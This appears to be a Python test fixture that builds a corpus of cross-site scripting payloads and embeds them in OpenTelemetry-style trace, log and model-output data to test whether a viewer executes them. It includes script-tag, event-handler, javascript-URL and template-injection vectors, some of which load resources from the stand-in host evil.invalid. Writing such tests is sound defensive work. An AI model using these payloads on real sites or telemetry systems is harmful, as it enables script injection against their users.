"""Texts that try to run code in whoever shows them, and telemetry that says them everywhere."""

import html
import time
import urllib.parse
from itertools import product
from typing import Any

VECTORS = (
    "<script>{}</script>", "<script src=//evil.invalid/x.js></script>", "<img src=x onerror={}>",
    "<svg onload={}>", "<svg><script>{}</script></svg>", "<svg><a href=javascript:{}>x</a></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<body onload={}>",
    "<iframe src=javascript:{}></iframe>", '<iframe srcdoc="<script>{}</script>"></iframe>',
    "<a href=javascript:{}>x</a>", "<input autofocus onfocus={}>", "<details open ontoggle={}>",
    "<video><source onerror={}></video>", "<audio src=x onerror={}>", "<marquee onstart={}>",
    "<object data=javascript:{}>", "<embed src=javascript:{}>", "<base href=//evil.invalid/>",
    "<form action=javascript:{}><button>x</button></form>", "<button formaction=javascript:{}>",
    "<style>@import'//evil.invalid/x.css';</style>", "<link rel=stylesheet href=//evil.invalid/x>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>", "<img src=//evil.invalid/x.png>",
    "<div style=background:url(//evil.invalid/x)>", "<x onpointerenter={} tabindex=1>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>", "javascript:{}",
    "data:text/html,<script>{}</script>", "[x](javascript:{})",
    "{{constructor.constructor('{}')()}}",
)  # fmt: skip
FRAMES = (
    "{}", '">{}', "'>{}", "</script>{}", "</title></textarea></style>{}", "-->{}", "]]>{}",
    "`${{}}`{}",
)  # fmt: skip
CODE = "owned(1)"


def _written(frame: str, vector: str) -> str:
    return frame.replace("{}", vector.replace("{}", CODE))


_PLAIN = [_written(frame, vector) for frame, vector in product(FRAMES, VECTORS)]
_HIDDEN = [html.escape(text) for text in _PLAIN[: len(VECTORS)]]
_HIDDEN += [urllib.parse.quote(text) for text in _PLAIN[: len(VECTORS)]]
_HIDDEN += [f"java\tscript:{CODE}", f"\u202e<script>{CODE}</script>", "__proto__", "constructor"]
CORPUS = list(dict.fromkeys(_PLAIN + _HIDDEN))


def _text(value: str) -> dict[str, str]:
    return {"stringValue": value}


def _attributes(**values: str) -> list[dict[str, Any]]:
    return [{"key": key, "value": _text(value)} for key, value in values.items()]


def _own(text: str) -> list[dict[str, Any]]:
    """Attributes with a text as key and value, and as what the app draws in a way of its own."""
    usual = _attributes(**{"code.file.path": text, "url.full": text, "db.query.text": text})
    return [{"key": text, "value": _text(text)}, *usual]


def _resource(text: str) -> dict[str, Any]:
    return {"attributes": _attributes(**{
        "service.name": text, "service.version": text, "service.instance.id": text,
        "telemetry.sdk.language": text,
    })}  # fmt: skip


def _exception(text: str, moment: int) -> dict[str, Any]:
    stack = (
        f'Traceback (most recent call last):\n  File "{text}", line 1, in {text}\n{text}: {text}'
    )
    said = {"exception.type": text, "exception.message": text, "exception.stacktrace": stack}
    return {"timeUnixNano": str(moment), "name": "exception", "attributes": _attributes(**said)}


def _span(number: int, text: str, trace: int, start: int, parent: int) -> dict[str, Any]:
    event = {"timeUnixNano": str(start), "name": text, "attributes": _own(text)}
    return {
        "traceId": f"{trace:032x}", "spanId": f"{number:016x}", "name": text, "kind": 3,
        "parentSpanId": f"{parent:016x}" if parent else "", "startTimeUnixNano": str(start),
        "endTimeUnixNano": str(start + 5_000_000), "attributes": _own(text), "traceState": "",
        "events": [event, _exception(text, start)], "status": {"code": 2, "message": text},
        "links": [{"traceId": f"{2:032x}", "spanId": f"{9:016x}", "attributes": _own(text)}],
    }  # fmt: skip


def traces() -> dict[str, Any]:
    """Trace 1 says the whole corpus in its spans, of forty services; traces 2 to 41 are roots."""
    now = time.time_ns() - 5_000_000_000
    spans = [_span(n, text, 1, now + n, int(n > 1)) for n, text in enumerate(CORPUS, 1)]
    roots = [_span(n, CORPUS[n], n, now + n, 0) for n in range(2, 42)]
    groups: dict[str, list[dict[str, Any]]] = {}
    for number, span in enumerate(spans + roots):
        groups.setdefault(CORPUS[number % 40], []).append(span)
    return {"resourceSpans": [
        {"resource": _resource(service), "scopeSpans": [{"scope": {"name": service}, "spans": own}]}
        for service, own in groups.items()
    ]}  # fmt: skip


def logs(texts: list[str] = CORPUS) -> dict[str, Any]:
    """A failed record for each text, which belongs to its span of trace 1."""
    now = time.time_ns() - 4_000_000_000
    groups: dict[str, list[dict[str, Any]]] = {}
    for number, text in enumerate(texts, 1):
        record = {
            "timeUnixNano": str(now + number * 1_000), "severityNumber": 17, "severityText": text,
            "body": _text(text), "eventName": text, "attributes": _own(text),
            "traceId": f"{1:032x}", "spanId": f"{number:016x}",
        }  # fmt: skip
        groups.setdefault(CORPUS[number % 40], []).append(record)
    return {"resourceLogs": [
        {"resource": _resource(service),
         "scopeLogs": [{"scope": {"name": service}, "logRecords": own}]}
        for service, own in groups.items()
    ]}  # fmt: skip


def answer(number: int) -> dict[str, Any]:
    """What a model says that was taken over, another part of the corpus each time."""
    texts = [CORPUS[(number * 7 + step) % len(CORPUS)] for step in range(7)]
    return {
        "summary": "\n".join(texts[:3]),
        "causes": [{"claim": texts[3], "evidence": [texts[4], "L1"]}],
        "checks": texts[5:],
        "confidence": "high",
    }
